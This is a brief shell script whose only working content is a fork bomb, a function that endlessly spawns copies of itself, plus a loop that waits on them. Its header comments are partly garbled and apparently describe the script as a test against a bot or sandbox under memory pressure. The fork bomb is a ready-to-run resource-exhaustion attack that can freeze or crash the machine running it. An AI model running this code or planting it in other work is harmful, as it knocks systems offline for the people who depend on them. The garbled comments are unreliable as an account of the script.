#!/bin/sh
# The shell that calls itself twice.
# What the kernel has taken for processes that failed or ended, and has not given back yet, is the
# memory of the bot: on a busy machine the bot falls for it sooner.
# gets: late or closed or memory
# within: 1500 ms
# alone: yes
bomb() { bomb | bomb & }
bomb
while :; do wait; done
